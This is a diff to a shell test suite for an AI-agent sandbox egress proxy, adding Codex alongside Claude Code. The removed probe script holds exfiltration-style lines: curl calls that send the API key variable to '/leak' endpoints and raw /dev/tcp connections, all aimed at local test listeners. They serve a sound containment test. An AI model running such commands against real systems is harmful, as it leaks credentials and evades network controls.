@@ -101,28 +101,32 @@ test_case "proxy: the payload cannot point the proxy variables elsewhere; networ
 # the agent) as agor_executor; the network setting is left at its default (none), which an agent run raises to proxy.
 CLAUDE_VERSION=2.1.197
 CLI_DIR="$TEST_TOP/build/test-tmp/agent-cli" # shared with t0080: npm runs once
-CLAUDE="$CLI_DIR/node_modules/.bin/claude"
-if ! "$CLAUDE" --version 2>/dev/null | grep -q "^$CLAUDE_VERSION"; then
+CODEX_VERSION=0.169.0
+CLAUDE="$CLI_DIR/node_modules/.bin/claude" CODEX="$CLI_DIR/node_modules/.bin/codex"
+if ! "$CLAUDE" --version 2>/dev/null | grep -q "^$CLAUDE_VERSION" || ! "$CODEX" --version 2>/dev/null | grep -q " $CODEX_VERSION$"; then
   mkdir -p "$CLI_DIR"
-  (cd "$CLI_DIR" && npm install --no-audit --no-fund --loglevel=error "@anthropic-ai/claude-code@$CLAUDE_VERSION") > /dev/null 2>&1 || true
+  (cd "$CLI_DIR" && npm install --no-audit --no-fund --loglevel=error "@anthropic-ai/claude-code@$CLAUDE_VERSION" \
+    "@openai/codex@$CODEX_VERSION") > /dev/null 2>&1 || true
 fi
 chmod -R a+rX "$CLI_DIR" 2>/dev/null || true
 
 SCENE='
   [ -n "${TRACE:-}" ] && set -x
-  KEY=sk-ant-SECRET-KEY-4242
+  KEY=sk-ant-SECRET-KEY-4242 OPENAI_KEY=sk-openai-SECRET-7777
   python3 "$TEST_TOP/test/helpers/anthropic-server.py" port server.log > /dev/null 2>&1 &
   server_pid=$!
+  python3 "$TEST_TOP/test/helpers/openai-server.py" openai-port openai.log > /dev/null 2>&1 &
+  openai_pid=$!
   python3 "$TEST_TOP/test/helpers/egress-target.py" allowed-port allowed.log > /dev/null 2>&1 &
   allowed_pid=$!
   python3 "$TEST_TOP/test/helpers/egress-target.py" outside-port outside.log > /dev/null 2>&1 &
   outside_pid=$!
-  for i in $(seq 1 400); do [ -s port ] && [ -s allowed-port ] && [ -s outside-port ] && break; sleep 0.05; done
-  [ -s port ] && [ -s allowed-port ] && [ -s outside-port ] || fail "the scripted servers did not start"
+  for i in $(seq 1 400); do [ -s port ] && [ -s openai-port ] && [ -s allowed-port ] && [ -s outside-port ] && break; sleep 0.05; done
+  [ -s port ] && [ -s openai-port ] && [ -s allowed-port ] && [ -s outside-port ] || fail "the scripted servers did not start"
   ALLOWED=$(cat allowed-port) OUTSIDE=$(cat outside-port)
   mkdir -p data && chmod 755 "$T" data
-  printf "paths:\n  data_home: %s/data\ndaemon:\n  socket_path: /run/agor/agor.sock\nexecution:\n  unix_user_mode: insulated\n  sandbox:\n    egress_allow: 127.0.0.1:%s\nagents:\n  claude_code:\n    command: %s\n    base_url: http://127.0.0.1:%s\n" \
-    "$T" "$ALLOWED" "$CLAUDE" "$(cat port)" > config.yaml
+  printf "paths:\n  data_home: %s/data\ndaemon:\n  socket_path: /run/agor/agor.sock\nexecution:\n  unix_user_mode: insulated\n  sandbox:\n    egress_allow: 127.0.0.1:%s\nagents:\n  claude_code:\n    command: %s\n    base_url: http://127.0.0.1:%s\n  codex:\n    command: %s\n    base_url: http://127.0.0.1:%s/v1\n    model: gpt-5.5\n" \
+    "$T" "$ALLOWED" "$CLAUDE" "$(cat port)" "$CODEX" "$(cat openai-port)" > config.yaml
   chmod 600 config.yaml
   a() { "$AGOR" "$@" --config "$PWD/config.yaml"; }
   groupadd agor_users
@@ -134,7 +138,7 @@ SCENE='
   mkdir -p "$AGOR_HOME" && chmod 700 "$AGOR_HOME"
   "$AGOR" daemon --foreground --port 0 --config "$PWD/config.yaml" 2>> daemon.log &
   daemon_pid=$!
-  trap "kill $daemon_pid $server_pid $allowed_pid $outside_pid 2>/dev/null; wait $daemon_pid 2>/dev/null; rmdir /sys/fs/cgroup/*/agor/agor_executor /sys/fs/cgroup/agor/agor_executor 2>/dev/null || true" EXIT
+  trap "kill $daemon_pid $server_pid $openai_pid $allowed_pid $outside_pid 2>/dev/null; wait $daemon_pid 2>/dev/null; rmdir /sys/fs/cgroup/*/agor/agor_executor /sys/fs/cgroup/agor/agor_executor 2>/dev/null || true" EXIT
   for i in $(seq 1 200); do [ -S /run/agor/agor.sock ] && grep -q serving daemon.log && break; sleep 0.05; done
   grep -q serving daemon.log || { cat daemon.log; fail "daemon did not start"; }
   DAEMON_PORT=$(sed -n "s/.*serving on .* http:\/\/[^:]*:\([0-9]*\) .*/\1/p" daemon.log | head -1)
@@ -143,30 +147,25 @@ SCENE='
   a worktree add "$(json_get clone.json repo.id)" wt1 --branch feat --create-branch --json > wt.json || { cat wt.json; fail "worktree add failed"; }
   wt=$(json_get wt.json worktree.id)
   a worktree get "$wt" --json > wt.json && wt_path=$(json_get wt.json path)
-  a session create "$wt" --tool claude-code --permission-mode bypassPermissions --json > session.json
+  a session create "$wt" --tool "$TOOL" --permission-mode "$MODE" --json > session.json
   session=$(json_get session.json id)
   echo "$KEY" | a api-key set anthropic > /dev/null
+  echo "$OPENAI_KEY" | a api-key set openai > /dev/null
+  # write_probe — the worktree gets probe.sh (test/helpers/egress-probe.sh with the ports it needs)
+  write_probe() {
+    { echo "ALLOWED=$ALLOWED OUTSIDE=$OUTSIDE DAEMON_PORT=$DAEMON_PORT"; cat "$TEST_TOP/test/helpers/egress-probe.sh"; } > "$wt_path/probe.sh"
+  }
+  expect_refusals() {
+    grep -q "^sentinel-seen agor$" "$wt_path/probe.txt" || fail "the probe found no sentinel"
+    for what in outside outside-connect daemon daemon-connect name sentinel sentinel-bearer sentinel-body; do
+      grep -q "^$what 403$" "$wt_path/probe.txt" || fail "$what was not refused by the proxy"
+    done
+  }
 '
 
 # What the agent's Bash tool runs: every way out it might try, each result a line of probe.txt.
 AGENT_EGRESS='
-  cat > "$wt_path/probe.sh" <<SH
-env > env.txt
-curl -sS -m 10 http://127.0.0.1:$ALLOWED/through-proxy > allowed.txt 2>&1 || echo allowed-failed >> allowed.txt
-code() { printf "%s " "\$1"; shift; curl -sS -m 10 -o /dev/null -w "%{http_code}\n" "\$@" 2>/dev/null || true; }
-tunnel() { printf "%s " "\$1"; shift; curl -sS -m 10 -p -o /dev/null -w "%{http_connect}\n" "\$@" 2>/dev/null || true; }
-code outside http://127.0.0.1:$OUTSIDE/ >> probe.txt
-tunnel outside-connect http://127.0.0.1:$OUTSIDE/ >> probe.txt
-tunnel daemon-connect http://127.0.0.1:$DAEMON_PORT/ >> probe.txt
-code daemon http://127.0.0.1:$DAEMON_PORT/ >> probe.txt
-code name http://not-allowed.invalid/ >> probe.txt
-code sentinel -H "x-api-key: \$ANTHROPIC_API_KEY" http://127.0.0.1:$ALLOWED/leak >> probe.txt
-code sentinel-body --data "k=\$ANTHROPIC_API_KEY" http://127.0.0.1:$ALLOWED/leak-body >> probe.txt
-if getent hosts example.org > /dev/null; then echo DNS-WORKED >> probe.txt; fi
-if (exec 3<>/dev/tcp/127.0.0.1/$OUTSIDE) 2>/dev/null; then echo DIRECT-OUTSIDE-WORKED >> probe.txt; fi
-if (exec 3<>/dev/tcp/127.0.0.1/$DAEMON_PORT) 2>/dev/null; then echo DIRECT-DAEMON-WORKED >> probe.txt; fi
-echo probe-done >> probe.txt
-SH
+  write_probe
   a prompt "$session" "please RUN: sh probe.sh" --json > events.jsonl 2> err || { cat events.jsonl err daemon.log; fail "prompt failed"; }
   cat "$wt_path/probe.txt"
   grep -q probe-done "$wt_path/probe.txt" || fail "the probe did not run to its end"
@@ -179,9 +178,7 @@ SH
   ! grep -q "agor-sentinel" server.log || grep -q "\"x-api-key\": \"$KEY\"" server.log || fail "the endpoint got only the sentinel"
   # the allowlisted host works; nothing else is reached; the sentinel goes nowhere
   grep -q "hello from target" "$wt_path/allowed.txt" || { cat "$wt_path/allowed.txt"; fail "the allowlisted host was not reached"; }
-  for what in outside outside-connect daemon daemon-connect name sentinel sentinel-body; do
-    grep -q "^$what 403$" "$wt_path/probe.txt" || fail "$what was not refused by the proxy"
-  done
+  expect_refusals
   ! grep -q WORKED "$wt_path/probe.txt" || fail "a way out worked"
   [ ! -s outside.log ] || { cat outside.log; fail "the listener outside was reached"; }
   ! grep -q "agor-sentinel\|/leak" allowed.log || { cat allowed.log; fail "the sentinel reached another host"; }
@@ -210,14 +207,33 @@ assert str(sys.argv[2]) in text and "not-allowed.invalid" in text, text
 PY
 '
 
-agent_scratch() { in_scratch_system "TEST_TOP='$TEST_TOP' CLAUDE='$CLAUDE' TRACE='${TRACE:-}'
-$SCENE
-$1"; }
+CODEX_EGRESS='
+  write_probe
+  a prompt "$session" "please RUN: sh probe.sh" --no --json > events.jsonl 2> err || { cat events.jsonl err daemon.log; fail "prompt failed"; }
+  cat "$wt_path/probe.txt"
+  grep -q probe-done "$wt_path/probe.txt" || fail "the probe did not run to its end"
+  ! grep -q "$OPENAI_KEY" "$wt_path/env.txt" || fail "the real key is in the environment of codex'"'"'s commands"
+  grep -q "^HTTPS_PROXY=http://127.0.0.1:3128$" "$wt_path/env.txt" || fail "the commands have no proxy"
+  grep -qi "\"authorization\": \"Bearer $OPENAI_KEY\"" openai.log || { head -c 2000 openai.log; fail "the scripted endpoint never received the real key"; }
+  grep -q "hello from target" "$wt_path/allowed.txt" || { cat "$wt_path/allowed.txt"; fail "the allowlisted host was not reached"; }
+  expect_refusals
+  ! grep -q WORKED "$wt_path/probe.txt" || fail "a way out worked"
+  [ ! -s outside.log ] || { cat outside.log; fail "the listener outside was reached"; }
+  ! grep -q "agor-sentinel\|/leak" allowed.log || { cat allowed.log; fail "the sentinel reached another host"; }
+  ! grep -rq "$OPENAI_KEY" daemon.log events.jsonl err || fail "the key leaked into a log or the output"
+  grep -q "task.egress_refused" events.jsonl || fail "no refusal event"
+'
 
-if [ ! -x "$CLAUDE" ]; then
-  test_skip "Claude Code through the egress proxy" "the npm registry is unreachable: Claude Code is not installed"
+# agent_scratch TOOL MODE BODY — BODY after SCENE with a session of TOOL in MODE, as root in a private mount namespace.
+agent_scratch() { in_scratch_system "TEST_TOP='$TEST_TOP' CLAUDE='$CLAUDE' CODEX='$CODEX' TOOL='$1' MODE='$2' TRACE='${TRACE:-}'
+$SCENE
+$3"; }
+
+if [ ! -x "$CLAUDE" ] || [ ! -x "$CODEX" ]; then
+  test_skip "Claude Code and Codex through the egress proxy" "the npm registry is unreachable: the agent CLIs are not installed"
 else
-  test_case "claude code: the tools hold a sentinel, the endpoint gets the key; only allowlisted hosts are reached; refusals are events and audit rows" 'agent_scratch "$AGENT_EGRESS"'
+  test_case "claude code: the tools hold a sentinel, the endpoint gets the key; only allowlisted hosts are reached; refusals are events and audit rows" 'agent_scratch claude-code bypassPermissions "$AGENT_EGRESS"'
+  test_case "codex: the same through its Authorization header; its own calls elsewhere are refused and reported" 'agent_scratch codex default "$CODEX_EGRESS"'
 fi
 
 test_done
